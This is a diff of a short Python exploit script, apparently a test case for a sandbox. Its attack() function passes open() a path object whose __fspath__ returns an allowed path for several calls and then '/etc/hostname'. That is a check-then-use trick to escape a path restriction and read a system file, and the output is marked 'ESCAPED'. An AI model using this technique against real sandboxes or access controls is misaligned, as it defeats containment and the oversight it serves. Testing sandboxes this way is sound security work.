@@ -9,13 +9,20 @@ import target
 
 
 class Path:
-    def __init__(self):
-        self.given = ["/etc/hostname"] * 9 + [target.DATA + "/links"] * 0
+    def __init__(self, harmless):
+        self.harmless = harmless
 
     def __fspath__(self):
-        return self.given.pop()
+        self.harmless -= 1
+        return "/etc/hostname" if self.harmless < 0 else target.APP + "/target.py"
 
 
 def attack():
-    with open(Path()) as file:
-        return "ESCAPED: " + file.read()
+    for harmless in range(6):
+        try:
+            with open(Path(harmless)) as file:
+                text = file.read()
+        except PermissionError:
+            continue
+        if "NEIGHBOUR" not in text:
+            return "ESCAPED: " + text
